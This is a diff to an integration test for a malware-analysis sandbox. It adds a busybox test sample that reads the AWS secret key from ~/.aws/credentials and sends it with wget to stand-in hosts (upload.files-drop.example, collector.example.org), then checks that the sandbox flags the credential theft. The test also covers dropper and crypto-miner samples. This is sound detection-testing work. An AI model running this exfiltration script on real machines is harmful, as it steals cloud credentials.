@@ -1,4 +1,5 @@
 import { execFileSync } from 'node:child_process';
+import { gunzipSync } from 'node:zlib';
 import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Docker from 'dockerode';
@@ -70,8 +71,9 @@ function simulatorOf(id: string): number | undefined {
   return pid;
 }
 
+/** The simulator's capture as stored with the analysis (gzip; the raw file is removed once stored). */
 function captures(id: string): NetCapture[] {
-  const text = readFileSync(join(stack.artifactDir, id, 'network.ndjson'), 'utf8');
+  const text = gunzipSync(readFileSync(join(stack.artifactDir, id, 'network.ndjson.gz'))).toString('utf8');
   return text
     .split('\n')
     .filter(Boolean)
@@ -102,6 +104,17 @@ beforeAll(async () => {
   ].join('\n');
   buildBusyboxImage('quarantine-test/net-isolation:latest', ['sh', '-c', script]);
   buildBusyboxImage('quarantine-test/net-sleep:latest', ['sleep', '3']);
+  // Steals the AWS secret where a real one would be (a planted lure) and sends it out twice: base64url
+  // in a URL to a file-drop-looking host, and as is in a POST body.
+  const exfil = [
+    'k=$(busybox sed -n "s/^aws_secret_access_key *= *//p" "$HOME/.aws/credentials" | busybox head -n 1)',
+    '[ -n "$k" ] || { echo "exfil: no key"; exit 0; }',
+    'e=$(printf %s "$k" | busybox base64 | busybox tr -d "\\n=" | busybox tr "+/" "-_")',
+    'busybox wget -q -O /dev/null "http://upload.files-drop.example/c?d=$e"',
+    'busybox wget -q -O /dev/null --post-data "user=ops&secret=$k" "http://collector.example.org/submit"',
+    'echo "exfil: sent"',
+  ].join('\n');
+  buildBusyboxImage('quarantine-test/net-exfil:latest', ['sh', '-c', exfil]);
   stack = await startStack({ db: 11, workers: 1, env: { PROFILES_DIR: profiles, WORKER_CONCURRENCY: '3' } });
   api = client(stack);
 }, 60_000);
@@ -127,14 +140,16 @@ describe('simulated network', () => {
   it('lets samples act: a dropper downloads and runs its payload, a miner logs in to a literal IP; the host and the outside stay unreachable', async () => {
     const dev = outboundInterface();
     const txBefore = txPackets(dev);
-    const [dropperId, minerId, isolationId] = await Promise.all([
+    const [dropperId, minerId, isolationId, exfilId] = await Promise.all([
       submit('quarantine-samples/net-dropper:latest'),
       submit('quarantine-samples/net-miner:latest'),
       submit('quarantine-test/net-isolation:latest'),
+      submit('quarantine-test/net-exfil:latest'),
     ]);
-    const [dropper, miner, isolation] = await Promise.all([api.waitDone(dropperId), api.waitDone(minerId), api.waitDone(isolationId)]);
+    const [dropper, miner, isolation, exfil] = await Promise.all([api.waitDone(dropperId), api.waitDone(minerId), api.waitDone(isolationId), api.waitDone(exfilId)]);
+    const rulesOf = (a: { findings?: { rule: string }[] }) => (a.findings ?? []).map((f) => f.rule);
     const txAfter = txPackets(dev);
-    for (const id of [dropperId, minerId, isolationId]) {
+    for (const id of [dropperId, minerId, isolationId, exfilId]) {
       const pid = Number(readFileSync(join(stack.artifactDir, id, 'netsim.pid'), 'utf8'));
       expect(pid).toBeGreaterThan(0);
       seenSimulators.add(pid);
@@ -156,6 +171,8 @@ describe('simulated network', () => {
     });
     expect(get!.http!.servedSha256).toMatch(/^[0-9a-f]{64}$/);
     expect(decode(get!.firstBytes)).toMatch(/^GET \/bins\/agent\.x86_64 HTTP\/1\.1\r\n/);
+    // … and the analysis says so: the downloaded file was executed.
+    expect({ verdict: dropper.verdict, rules: rulesOf(dropper) }).toEqual({ verdict: expect.stringMatching(/^(suspicious|malicious)$/), rules: expect.arrayContaining(['Downloaded Executable Run']) });
 
     // Miner: the original destination (a literal IP, port 3333) and its stratum login, as sent.
     expect({ status: miner.status, error: miner.error }).toEqual({ status: 'completed', error: null });
@@ -165,6 +182,17 @@ describe('simulated network', () => {
     const login = JSON.parse(decode(m[0].firstBytes)) as { method: string; params: { login: string; agent: string } };
     expect(login).toMatchObject({ method: 'login', params: { agent: expect.stringContaining('XMRig') } });
     expect(m[0].bytesIn).toBe(Buffer.from(m[0].firstBytes!, 'base64').length);
+    expect({ verdict: miner.verdict, rules: rulesOf(miner) }).toEqual({ verdict: expect.stringMatching(/^(suspicious|malicious)$/), rules: expect.arrayContaining(['Stratum Mining Login']) });
+
+    // Credential exfiltration: the planted lure was read, and its secret left in both encodings,
+    // each finding naming the lure and where it went.
+    expect(exfil.status).toBe('completed');
+    const xreport = (await api.call('GET', `/v1/analyses/${exfilId}/report`)).json;
+    expect(xreport.output.stdout).toContain('exfil: sent');
+    expect({ verdict: exfil.verdict, rules: rulesOf(exfil) }).toEqual({ verdict: 'malicious', rules: expect.arrayContaining(['Credential Lure Read', 'Credential Lure Sent Out']) });
+    const sent = (xreport.findings as { rule: string; output: string; evidence: unknown[] }[]).find((f) => f.rule === 'Credential Lure Sent Out')!;
+    expect(sent.output).toMatch(/aws-credentials/);
+    expect(JSON.stringify(sent.evidence)).toMatch(/upload\.files-drop\.example|collector\.example\.org/);
 
     // Isolation: every host service port and the outside address landed on the simulator (a record
     // with the sample's PING), none answered as the real service would, and nothing left the host.
